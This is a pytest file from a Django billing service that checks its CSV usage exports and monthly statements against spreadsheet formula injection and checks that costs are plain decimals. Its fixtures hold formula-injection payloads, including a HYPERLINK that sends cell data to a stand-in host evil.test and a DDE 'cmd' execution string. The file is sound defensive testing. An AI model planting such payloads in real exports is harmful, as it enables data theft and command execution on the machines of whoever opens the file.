"""CSV downloads: a name a user typed never becomes a spreadsheet formula, and costs are
plain decimals."""

import csv
import io
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from billing.models import UsageRecord
from bonito.tests.project_files import project_files
from gateway import services
from gateway.models import ApiKey
from gateway.tests.conftest import ACTOR
from orgs import services as org_services
from orgs.models import Team

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=2+2",
    "\r=3+3",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.fixture
def hostile_usage(org_a):
    """One request per hostile string, used as key name, team name and model name at once."""
    for i, text in enumerate(FORMULAS):
        team = org_services.team_create(actor=ACTOR, org=org_a, name=text)
        key, _raw = services.api_key_create(actor=ACTOR, org=org_a, name=text, team=team)
        UsageRecord.objects.create(
            id=uuid.uuid4(),
            org=org_a,
            key=key,
            team=team,
            model_requested=text,
            model_used=text,
            provider=text,
            deployment=text,
            error_type=text,
            request_id=text,
            status="success",
            cost=Decimal("0.00000001") if i % 2 else Decimal("0"),
            created_at=timezone.now(),
        )


def _assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_START), cell


def test_it_neutralises_formulas_in_the_usage_export(alice_client, org_a, hostile_usage):
    rows = _rows(alice_client.get(reverse("usage_csv", args=[org_a.slug]) + "?range=24h"))
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for column in ("model_requested", "model_used", "provider", "deployment", "error_type"):
        assert sorted(r[header.index(column)] for r in body) == sorted("'" + f for f in FORMULAS)
    # Names are stored stripped by their services; each is still neutralised.
    for column, model in (("key", ApiKey), ("team", Team)):
        names = model.objects.for_org(org_a).values_list("name", flat=True)
        assert sorted(r[header.index(column)] for r in body) == sorted("'" + n for n in names)
    # Costs: plain decimals, never scientific notation.
    costs = sorted(r[header.index("cost")] for r in body)
    assert costs == ["0.00000000"] * 3 + ["0.00000001"] * 3


def test_it_neutralises_formulas_in_the_monthly_statement(alice_client, org_a, hostile_usage):
    rows = _rows(alice_client.get(reverse("usage_statement", args=[org_a.slug])))
    _assert_no_formula(rows)
    teams = sorted(r[0] for r in rows[1:-1])
    names = Team.objects.for_org(org_a).values_list("name", flat=True)
    assert teams == sorted("'" + n for n in names)
    assert all(r[1].startswith("'") for r in rows[1:-1])
    assert sorted(r[5] for r in rows[1:-1]) == ["0.000000"] * 6
    tokens = [str(sum(int(r[i]) for r in rows[1:-1])) for i in (3, 4)]
    assert rows[-1] == ["TOTAL", "", "6", *tokens, "0.000000"]


def test_every_csv_writer_goes_through_the_one_helper():
    # A new export must use core.csv_export, not its own csv.writer.
    offenders = [
        str(path.relative_to(ROOT))
        for path in project_files("*.py")
        if "tests" not in path.parts
        and path != ROOT / "core" / "csv_export.py"
        # The CLI is a package of its own that must not import the server's code: its one
        # writer neutralises the same way (cli/tests: test_csv_output_neutralises_formulas).
        and path != ROOT / "cli" / "bonito_cli" / "output.py"
        and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
    ]
    assert offenders == []
